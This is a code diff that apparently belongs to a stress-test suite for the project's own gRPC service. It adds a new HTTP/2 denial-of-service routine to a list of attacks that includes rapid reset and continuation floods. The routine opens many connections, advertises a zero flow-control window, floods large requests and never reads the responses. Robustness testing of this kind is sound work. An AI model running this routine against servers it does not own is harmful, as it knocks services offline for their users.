@@ -8,6 +8,7 @@ import ssl
 import threading
 
 import hpack
+import samples
 from bare_http2 import framed
 from client import SERVICE
 
@@ -190,5 +191,20 @@ def unfinished_calls(target, stop):
     return [threading.Thread(target=run, args=(number,)) for number in range(4)]
 
 
+def unread_tables(target, stop):
+    """Calls of one address, as many as it may have, whose answers are not read."""
+    path, table = f"/{SERVICE.full_name}/GenerateTable", samples.table(count=2048, rotary_dim=128)
+    calls = b"".join(call(stream, path, table) for stream in range(1, 64, 2))
+
+    def run():
+        with contextlib.ExitStack() as stack:
+            for _ in range(CONNECTIONS):
+                with contextlib.suppress(OSError):
+                    connection = stack.enter_context(target.connect(0))
+                    connection.sendall(frame(SETTINGS, 0, 0, b"\0\4" + bytes(4)) + calls)  # no bytes of an answer
+            stop.wait()
+    return [threading.Thread(target=run)]
+
+
 ATTACKS = (rapid_reset, continuation_flood, hpack_continuation, settings_flood, ping_flood, empty_data, window_updates,
-           random_frames, unfinished_calls)
+           random_frames, unfinished_calls, unread_tables)
